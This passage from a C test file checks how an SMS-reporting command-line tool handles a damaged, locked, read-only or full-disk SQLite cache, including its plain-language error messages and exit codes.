    g_assert_cmpint (run_cli (fixture, key, NULL, NULL, NULL, &err, "campaign-messages", too_long->str, NULL), ==, 1);
    g_assert_nonnull (strstr (err, "too long"));
  }
}

static void
fill_cache (const char *db_path,
            guint       n_messages)
{
  g_autoptr(SrCache) cache = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) messages = g_ptr_array_new_with_free_func (g_object_unref);

  cache = sr_cache_open (db_path, &error);
  g_assert_no_error (error);
  for (guint i = 0; i < n_messages; i++)
    {
      SrMessage *message = sr_message_new_empty ();

      message->id = g_strdup_printf ("m-%05u", i);
      message->to = g_strdup_printf ("+3579900%04u", i);
      message->sender_id = g_strdup ("Shop");
      message->message = g_strdup_printf ("Message number %u, long enough to fill a few pages of the file", i);
      message->status = i % 5 == 0 ? SR_STATUS_FAILED : SR_STATUS_DELIVERED;
      message->status_raw = g_strdup (sr_status_to_string (message->status));
      message->created_at = (G_GINT64_CONSTANT (1772000000) + i) * G_USEC_PER_SEC;
      message->cost = 0.5;
      message->sms_count = 1;
      g_ptr_array_add (messages, message);
    }
  g_assert_true (sr_cache_upsert_messages (cache, messages, NULL, NULL, NULL, &error));
  g_assert_no_error (error);
  sr_cache_close (cache);
}

/* Runs `stats` and checks the error is told in plain words: the sentence
 * has want; SQLite's text (raw, or for a damaged file whichever of its
 * texts SQLite met first, raw_too) appears only with --verbose. */
static void
assert_plain_error (Fixture    *fixture,
                    const char *want,
                    const char *raw,
                    const char *raw_too)
{
  const char *key = sr_test_sandbox_get_api_key (fixture->sandbox);
  g_autofree char *err = NULL;
  g_autofree char *verbose_err = NULL;

  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, NULL, &err, "stats", NULL), ==, 4);
  g_assert_nonnull (strstr (err, want));
  g_assert_null (strstr (err, raw));
  g_assert_true (raw_too == NULL || strstr (err, raw_too) == NULL);
  g_assert_null (strstr (err, "sqlite"));
  /* One line: what happened and what to do */
  g_assert_true (g_str_has_suffix (err, "\n"));
  g_assert_true (strchr (err, '\n') == err + strlen (err) - 1);

  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, NULL, &verbose_err, "stats", "--verbose", NULL), ==, 4);
  g_assert_true (g_str_has_prefix (verbose_err, err));
  g_assert_true (strstr (verbose_err, raw) != NULL || (raw_too != NULL && strstr (verbose_err, raw_too) != NULL));
}

/* A folder in the file's place, a damaged file and a file another process
 * keeps locked are told as what happened and what to do. */
static void
test_plain_errors (Fixture       *fixture,
                   gconstpointer  data)
{
  g_autofree char *db_path = dup_account_db_path (fixture);

  /* The cache path is a folder: "disk I/O error" from SQLite */
  g_assert_cmpint (g_mkdir (db_path, 0700), ==, 0);
  assert_plain_error (fixture, "folder", "disk I/O error", NULL);
  g_assert_true (g_file_test (db_path, G_FILE_TEST_IS_DIR));
  g_assert_cmpint (g_rmdir (db_path), ==, 0);

  /* Damaged pages in the middle of a real file: the quick check's
   * "*** in database main ***" lines stay out of sight */
  fill_cache (db_path, 3000);
  {
    g_autofree char *contents = NULL;
    gsize length;

    g_assert_true (g_file_get_contents (db_path, &contents, &length, NULL));
    g_assert_cmpuint (length, >, 40 * 4096);
    memset (contents + 20 * 4096, 0x5a, 8 * 4096);
    g_assert_true (g_file_set_contents (db_path, contents, length, NULL));
  }
  assert_plain_error (fixture, "damaged", "*** in database main ***", "malformed");
  {
    g_autofree char *err = NULL;

    g_assert_cmpint (run_cli (fixture, sr_test_sandbox_get_api_key (fixture->sandbox), NULL, NULL, NULL, &err,
                              "stats", NULL), ==, 4);
    g_assert_nonnull (strstr (err, db_path));
    g_assert_null (strstr (err, "btree"));
  }
  g_assert_cmpint (g_unlink (db_path), ==, 0);
  {
    g_autofree char *wal = g_strconcat (db_path, "-wal", NULL);
    g_autofree char *shm = g_strconcat (db_path, "-shm", NULL);

    g_unlink (wal);
    g_unlink (shm);
  }

  /* Another process holds the write lock for longer than the cache waits */
  fill_cache (db_path, 10);
  {
    sqlite3 *db = NULL;

    g_assert_cmpint (sqlite3_open (db_path, &db), ==, SQLITE_OK);
    g_assert_cmpint (sqlite3_exec (db, "BEGIN IMMEDIATE", NULL, NULL, NULL), ==, SQLITE_OK);
    assert_plain_error (fixture, "another program", "database is locked", NULL);
    sqlite3_exec (db, "ROLLBACK", NULL, NULL, NULL);
    sqlite3_close (db);
  }
  /* and once it lets go, everything works */
  g_assert_cmpint (run_cli (fixture, sr_test_sandbox_get_api_key (fixture->sandbox), NULL, NULL, NULL, NULL,
                            "stats", NULL), ==, 0);
}

/* The local reports on a read-only folder: stats and messages work and say
 * that syncing is unavailable; sync says so too, without asking the server,
 * and exits 4. */
static void
test_read_only (Fixture       *fixture,
                gconstpointer  data)
{
  const char *key = sr_test_sandbox_get_api_key (fixture->sandbox);
  g_autofree char *db_path = dup_account_db_path (fixture);
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  gint64 requests_before = 0;
  gint64 requests_after = 0;

  fill_cache (db_path, 3000);
  if (!sr_test_make_read_only (fixture->data_dir))
    {
      g_test_skip ("Cannot make a read-only folder here");
      return;
    }

  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, &err, "stats", NULL), ==, 0);
  g_assert_nonnull (strstr (out, "Total messages: 3000"));
  g_assert_true (g_str_has_prefix (err, "Note: "));
  g_assert_nonnull (strstr (err, "read-only"));
  g_assert_nonnull (strstr (err, "syncing is unavailable"));
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);

  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, NULL, "messages", "--format", "csv",
                            "--sort", "cost", "--desc", "--limit", "10", NULL), ==, 0);
  {
    g_autoptr(GPtrArray) rows = parse_csv (out);

    g_assert_cmpuint (rows->len, ==, 11);
  }
  g_clear_pointer (&out, g_free);

  sr_test_sandbox_get_counters (fixture->sandbox, &requests_before, NULL);
  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, &err, "sync", NULL), ==, 4);
  g_assert_nonnull (strstr (err, "Syncing is unavailable"));
  g_assert_null (strstr (err, "readonly"));
  sr_test_sandbox_get_counters (fixture->sandbox, &requests_after, NULL);
  g_assert_cmpint (requests_after, ==, requests_before);
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);

  sr_test_make_writable (fixture->data_dir);
  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, NULL, &err, "stats", NULL), ==, 0);
  g_assert_cmpstr (err, ==, "");
}

/* A first sync stopped by a full disk (a 2 MB tmpfs as the data folder,
 * 20,000 messages on the server): the CLI says the disk is full in plain
 * words and leaves the indexes deferred for lack of room; with not a byte
 * left stats and messages still work and say so; with room again the next
 * sync finishes and the indexes are built. */
static void
test_full_disk (Fixture       *fixture,
                gconstpointer  data)
{
  g_autoptr(SrTestSandbox) big = NULL;
  const char *key = NULL;
  const char *url = NULL;
  g_autofree char *mount = sr_test_mount_tmpfs ("test-cli-full", 2048);
  g_autofree char *saved_data_dir = NULL;
  g_autofree char *db_path = NULL;
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;

  if (mount == NULL)
    {
      g_test_skip ("Mounting a small tmpfs needs root");
      return;
    }
  big = sr_test_sandbox_start ("--messages", "20000", "--campaigns", "10", "--seed", "5", NULL);
  key = sr_test_sandbox_get_api_key (big);
  url = sr_test_sandbox_get_url (big);
  saved_data_dir = g_steal_pointer (&fixture->data_dir);
  fixture->data_dir = g_strdup (mount);
  {
    g_autofree char *name = sr_cache_dup_account_file_name (url, key);

    db_path = g_build_filename (mount, name, NULL);
  }

  g_assert_cmpint (run_cli (fixture, key, url, NULL, &out, &err, "sync", "--concurrency", "1", NULL), ==, 4);
  g_assert_nonnull (strstr (err, "The disk is full"));
  g_assert_null (strstr (err, "database or disk is full"));
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);
  {
    g_autofree char *uri = g_strconcat ("file:", db_path, "?mode=ro", NULL);
    sqlite3 *db = NULL;
    sqlite3_stmt *stmt = NULL;

    /* The rebuild at the end of the sync did not fit: indexes wait */
    g_assert_cmpint (sqlite3_open_v2 (uri, &db, SQLITE_OPEN_READONLY | SQLITE_OPEN_URI, NULL), ==, SQLITE_OK);
    g_assert_cmpint (sqlite3_prepare_v2 (db, "SELECT count(*) FROM deferred_indexes", -1, &stmt, NULL), ==, SQLITE_OK);
    g_assert_cmpint (sqlite3_step (stmt), ==, SQLITE_ROW);
    g_assert_cmpint (sqlite3_column_int (stmt, 0), >, 0);
    sqlite3_finalize (stmt);
    sqlite3_close (db);
  }

  sr_test_fill_disk (mount);
  g_assert_cmpint (run_cli (fixture, key, url, NULL, &out, &err, "stats", "--json", NULL), ==, 0);
  g_assert_nonnull (strstr (err, "disk is full"));
  {
    g_autoptr(JsonParser) parser = json_parser_new ();
    g_autoptr(GError) error = NULL;

    json_parser_load_from_data (parser, out, -1, &error);
    g_assert_no_error (error);
    g_assert_cmpint (json_object_get_int_member (json_node_get_object (json_parser_get_root (parser)), "total"), >, 0);
  }
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (run_cli (fixture, key, url, NULL, &out, &err, "messages", "--sort", "cost", "--desc",
                            "--limit", "5", "--format", "json", NULL), ==, 0);
  g_assert_nonnull (strstr (err, "disk is full"));
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);

  /* Room again */
  g_assert_true (sr_test_remount (mount, "size=65536k"));
  g_assert_cmpint (run_cli (fixture, key, url, NULL, &out, &err, "sync", NULL), ==, 0);
  /* "Messages in the local reports[ up to <time>]: 20000" */
  g_assert_nonnull (strstr (out, "Messages in the local reports"));
  g_assert_nonnull (strstr (out, ": 20000\n"));
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (run_cli (fixture, key, url, NULL, NULL, &err, "stats", NULL), ==, 0);
  g_assert_cmpstr (err, ==, "");

  g_free (fixture->data_dir);
  fixture->data_dir = g_steal_pointer (&saved_data_dir);
  sr_test_unmount (mount);
}

static void
test_exit_codes (Fixture       *fixture,
                 gconstpointer  data)
{
  const char *key = sr_test_sandbox_get_api_key (fixture->sandbox);
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  g_autofree char *db_dir = NULL;
  g_autofree char *name = NULL;
  g_autofree char *db_path = NULL;

  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, NULL, NULL, "frobnicate", NULL), ==, 1);
  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, NULL, NULL, "messages", "--format", "xml", NULL), ==, 1);
  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, NULL, NULL, "messages", "--status", "LOST", NULL), ==, 1);
  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, NULL, NULL, "stats", "--from", "yesterday", NULL), ==, 1);
  g_assert_cmpint (run_cli (fixture, key, "http://example.com", NULL, NULL, NULL, "sync", NULL), ==, 1);

  /* wrong key */
  g_assert_cmpint (run_cli (fixture, "not-the-key", NULL, NULL, &out, &err, "sync", NULL), ==, 2);
  g_assert_null (strstr (err, "not-the-key"));
  g_clear_pointer (&out, g_free);
  g_clear_pointer (&err, g_free);

  /* nobody listening */
  g_assert_cmpint (run_cli (fixture, key, "http://127.0.0.1:1", NULL, NULL, NULL, "sync", NULL), ==, 3);

  /* a damaged cache file is reported and left alone */
  name = sr_cache_dup_account_file_name (sr_test_sandbox_get_url (fixture->sandbox), key);
  db_path = g_build_filename (fixture->data_dir, name, NULL);
  g_assert_cmpint (g_mkdir_with_parents (fixture->data_dir, 0700), ==, 0);
  g_assert_true (g_file_set_contents (db_path, "this is not a database, just some text that got here", -1, NULL));
  g_assert_cmpint (run_cli (fixture, key, NULL, NULL, &out, &err, "stats", NULL), ==, 4);
  g_assert_nonnull (strstr (err, "damaged"));
  {
    g_autofree char *contents = NULL;

    g_assert_true (g_file_get_contents (db_path, &contents, NULL, NULL));
    g_assert_cmpstr (contents, ==, "this is not a database, just some text that got here");
  }
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);

  g_test_add ("/cli/end-to-end", Fixture, NULL, fixture_set_up, test_end_to_end, fixture_tear_down);
  g_test_add ("/cli/stats-match-dashboard", Fixture, NULL, fixture_set_up, test_stats_match_dashboard,
              fixture_tear_down);
  g_test_add ("/cli/login-keyring", Fixture, NULL, fixture_set_up, test_login_keyring, fixture_tear_down);
  g_test_add ("/cli/two-accounts", Fixture, NULL, fixture_set_up, test_two_accounts, fixture_tear_down);
  g_test_add ("/cli/exit-codes", Fixture, NULL, fixture_set_up, test_exit_codes, fixture_tear_down);
  g_test_add ("/cli/csv-formulas", Fixture, NULL, fixture_set_up, test_csv_formulas, fixture_tear_down);
  g_test_add ("/cli/search-limits", Fixture, NULL, fixture_set_up, test_search_limits, fixture_tear_down);
  g_test_add ("/cli/plain-errors", Fixture, NULL, fixture_set_up, test_plain_errors, fixture_tear_down);
  g_test_add ("/cli/read-only", Fixture, NULL, fixture_set_up, test_read_only, fixture_tear_down);
  g_test_add ("/cli/full-disk", Fixture, NULL, fixture_set_up, test_full_disk, fixture_tear_down);

  return g_test_run ();
}
